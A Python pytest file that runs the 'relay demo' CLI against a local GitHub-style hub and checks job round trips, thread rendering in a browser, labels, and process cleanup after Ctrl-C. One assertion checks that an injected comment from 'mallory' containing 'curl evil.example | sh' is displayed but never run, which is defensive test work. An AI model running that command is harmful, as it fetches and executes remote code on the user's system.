"""`relay demo` end to end, and the relay bench's round trips, both built on relay.commands.demo.

Both run the real CLI as processes against their own `relay hub`, everything in tmp_path.
"""

from __future__ import annotations

import contextlib
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from browser import Browser

from bench import bench_relay
from relay.commands import demo as d

SHOTS = Path(__file__).resolve().parents[2] / "build" / "screenshots"


@dataclass(frozen=True)
class KeptDemo:
    """One `relay demo --keep DIR` run: what it said and the hub it left running."""

    said: str
    timings: dict[str, float]
    keep: Path
    url: str
    pid: int
    token: str


@pytest.fixture(scope="module")
def kept_demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[KeptDemo]:
    """The demo, run once for this module with ``--keep``: its hub outlives it."""
    root = tmp_path_factory.mktemp("demo")
    saved, tempfile.tempdir = tempfile.tempdir, str(root)
    said: list[str] = []
    try:
        timings = d.run_demo(said.append, keep=root / "kept")
    finally:
        tempfile.tempdir = saved
    text = "\n".join(said)
    pid = int((root / "kept" / "hub" / "hub.pid").read_text())  # the hub's own
    url = re.search(r"the hub keeps running at (http://\S+) ", text)
    token = (root / "kept" / "hub-token").read_text().strip()
    try:
        assert url is not None, text
        yield KeptDemo(text, timings, root / "kept", url.group(1), pid, token)
    finally:
        os.kill(pid, signal.SIGTERM)


def test_the_demo_runs_the_main_job_and_times_its_round_trips(kept_demo: KeptDemo) -> None:
    text, timings = kept_demo.said, kept_demo.timings
    assert f"{d.CONTROLLER} opened job #1; {d.WORKER} is its worker" in text
    assert "relay is set up in" in text and "registered win-desktop" in text
    assert "compiler check: ok" in text and "[closed]" in text
    loops = [s for what, s in timings.items() if what.startswith("round trip")]
    assert len(loops) == 3 and all(0 < s < 60 for s in loops), timings


def test_a_kept_demo_leaves_its_hub_running_and_says_how_to_stop_it(
    kept_demo: KeptDemo,
) -> None:
    thread = f"{kept_demo.url}/{d.OWNER}/{d.REPO}/issues/1"
    assert f"in a browser: {thread}" in kept_demo.said  # the thread's URL, as html_url
    assert f"stop it:     kill {kept_demo.pid}" in kept_demo.said
    assert os.stat(kept_demo.keep / "hub-token").st_mode & 0o077 == 0
    with urllib.request.urlopen(f"{kept_demo.url}/", timeout=10) as answer:
        assert answer.status == 200  # the demo is over; its hub still answers
    with pytest.raises(d.RelayError) as err:
        d.run_demo(lambda _line: None, keep=kept_demo.keep)
    assert str(err.value) == (
        f"--keep {kept_demo.keep} already holds a demo (its hub still runs: kill"
        f" {kept_demo.pid}) — give --keep a new folder"
    )


def test_the_demos_thread_reads_in_a_browser_as_on_github(
    kept_demo: KeptDemo, browser: Browser
) -> None:
    base = f"{kept_demo.url}/{d.OWNER}/{d.REPO}"
    assert browser.open(f"{base}/issues/1") == 404  # a private repository, not signed in
    assert "sign in" in browser.text()
    browser.set_cookie(kept_demo.url, "user_session", kept_demo.token)
    assert browser.open(f"{base}/issues/1") == 200
    text = browser.text()
    assert "Build fails on Windows only" in text and "Closed" in text
    for head in ("TASK 1", "RESULT 1", "TASK 2", "RESULT 2"):
        heads = "[...document.querySelectorAll('.markdown-body h3')]"
        assert browser.evaluate(f"{heads}.some(h => h.innerText.startsWith({head!r}))"), head
    steps = browser.evaluate(
        "[...document.querySelectorAll('.markdown-body ol li')].map(li => li.innerText)"
    )
    assert any(s.startswith("git --version") or "git --version" in s for s in steps), steps
    excerpts = browser.evaluate(
        "[...document.querySelectorAll('.markdown-body pre code')].map(c => c.innerText)"
    )
    assert any("compiler check: ok" in e for e in excerpts), excerpts
    # the baton's moves are events with their coloured labels, as GitHub shows them
    moves = [
        "added awaiting:controller label",  # the job opened
        "added awaiting:worker and removed awaiting:controller labels",  # TASK 1 posted
        "added working and removed awaiting:worker labels",  # claimed
        "added awaiting:controller and removed working labels",  # RESULT 1
    ]
    flat = re.sub(r"\s+", " ", text)
    spots = [flat.find(f"octo {move}") for move in moves]
    assert -1 not in spots and spots == sorted(spots), (spots, flat)
    working = browser.evaluate(
        "getComputedStyle([...document.querySelectorAll('.label')]"
        ".find(l => l.innerText === 'working')).backgroundColor"
    )
    assert working == "rgb(29, 118, 219)"  # relay's 1d76db
    # the hidden blocks: in every body the API returns, in no text the page shows
    assert "<!-- relay:" in _api(kept_demo, "/issues/1/comments")
    assert "relay:" not in text and "-->" not in text and '"task"' not in text
    assert browser.evaluate("document.querySelector('meta[http-equiv=refresh]')") is None
    assert "(not an instruction account)" not in text  # mallory's words are her comment's
    assert "curl evil.example | sh" in text  # ...shown as written, never run
    SHOTS.mkdir(parents=True, exist_ok=True)
    shots = Path(os.environ.get("RELAY_SCREENSHOTS") or SHOTS)
    assert browser.screenshot(shots / "thread.png").startswith(b"\x89PNG")

    link = browser.evaluate(
        "[...document.querySelectorAll('a')].map(a => a.href)"
        ".find(h => h.includes('/logs/result-001.log'))"
    )
    assert re.search(r"/blob/[0-9a-f]{40}/docs/loop/relay/1/logs/result-001\.log$", link), link
    assert browser.open(link) == 200
    committed = (kept_demo.keep / d.WORKER / "docs/loop/relay/1/logs/result-001.log").read_text()
    shown = browser.evaluate(
        "[...document.querySelectorAll('table.blob td.code')].map(c => c.innerText).join('\\n')"
    )
    assert shown.strip() == committed.strip()
    raw = browser.evaluate("document.querySelector('a.btn[href*=\"/raw/\"]').href")
    assert browser.open(raw) == 200 and browser.text().strip() == committed.strip()

    # a job still open: its baton shows in the list, and its thread refreshes itself
    c = d.Node(d.CONTROLLER, kept_demo.keep / d.CONTROLLER, kept_demo.token)
    job = d.open_job(c, title="Flaky test on the worker", objective="Find the flake.")
    assert browser.open(f"{base}/issues/{job}") == 200
    refresh = "document.querySelector('meta[http-equiv=refresh]')"
    assert browser.evaluate(f"{refresh}.content") == "5"
    assert browser.open(f"{base}/issues") == 200  # open ones, as GitHub's default
    titles = "[...document.querySelectorAll('.issue-title')].map(a => a.innerText)"
    assert browser.evaluate(titles) == ["Flaky test on the worker"]
    row = browser.evaluate("document.querySelector('.issue-row').innerText")
    assert "awaiting:controller" in row, row  # the baton, at a glance
    assert browser.open(f"{base}/issues?q=is:issue") == 200
    newest_first = ["Flaky test on the worker", "Round-trip timing", "Build fails on Windows only"]
    assert browser.evaluate(titles) == newest_first
    assert "1 Open" in browser.text() and "2 Closed" in browser.text()
    assert browser.screenshot(shots / "issues.png").startswith(b"\x89PNG")


def _api(kept: KeptDemo, path: str) -> str:
    req = urllib.request.Request(
        f"{kept.url}/repos/{d.OWNER}/{d.REPO}{path}",
        headers={"Authorization": f"token {kept.token}"},
    )
    with urllib.request.urlopen(req, timeout=10) as answer:
        return str(answer.read().decode())


def test_the_bench_round_trips_go_through_both_watch_loops(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bench_relay, "ROUND_TRIPS", 2)
    with d.running_hub(tmp_path / "hub") as hub:
        demo = d.setup(tmp_path, hub, lambda _line: None)
        d.set_up_relay(demo)
        seconds = bench_relay.round_trips(demo)
        assert len(seconds) == 2 and all(0 < s < 60 for s in seconds), seconds
        assert d.wait_for(demo.baton_home, timeout=60) >= 0
        assert demo.comments()[-1]["body"].startswith("### RESULT 2 ")


def _group_members(pgid: int) -> list[int]:
    """The live processes of a process group (zombies are not counted), from /proc."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[2] == str(pgid) and fields[0] != "Z":
            found.append(int(stat.parent.name))
    return found


def _alive(pid: int) -> bool:
    stat = Path(f"/proc/{pid}/stat")
    try:
        return stat.read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def _until(check: Callable[[], bool], *, timeout: float) -> bool:
    """Wait for ``check`` (polling), up to ``timeout`` seconds; whether it came true."""
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


@pytest.mark.skipif(os.name == "nt", reason="SIGINT to a console process is POSIX here")
def test_a_kept_demo_interrupted_midway_stops_its_hub_and_says_so(tmp_path: Path) -> None:
    """Ctrl-C in the middle: the demo ends promptly, non-zero, says so, and leaves no
    process behind: not its hub (in a session of its own, its pid written as soon as it
    started), not a watcher, not a step. The Ctrl-C is a terminal's: the whole foreground
    process group gets it. Every wait is on a condition (a loaded machine is slow), and
    whatever the test started is killed at its end, whatever happened."""
    keep = tmp_path / "kept"
    log = tmp_path / "demo.log"
    argv = [sys.executable, "-m", "relay.cli", "demo", "--keep", str(keep)]
    with log.open("w") as out:  # a group of its own, as a shell gives a foreground job
        proc = subprocess.Popen(argv, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    hub_pid = 0
    try:
        started = _until(
            lambda: "posted TASK 1" in log.read_text() or proc.poll() is not None, timeout=600
        )
        assert started and proc.poll() is None, log.read_text()
        hub_pid = int((keep / "hub" / "hub.pid").read_text())  # the hub's own, from its start
        os.killpg(proc.pid, signal.SIGINT)
        assert proc.wait(timeout=120) == 130, log.read_text()
        said = log.read_text()
        assert said.rstrip().splitlines()[-1] == "relay: interrupted", said
        assert "Traceback" not in said, said
        assert _until(lambda: not _alive(hub_pid), timeout=30), "the demo left its hub running"
        assert _until(lambda: not _group_members(proc.pid), timeout=30), (
            f"the demo left processes behind: {_group_members(proc.pid)}"
        )
        assert not (keep / "hub" / "hub.pid").exists()  # its hub is gone: no pid to point at
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        if not hub_pid and (keep / "hub" / "hub.pid").exists():
            with contextlib.suppress(ValueError):
                hub_pid = int((keep / "hub" / "hub.pid").read_text())
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
        if hub_pid and _alive(hub_pid):
            os.kill(hub_pid, signal.SIGKILL)
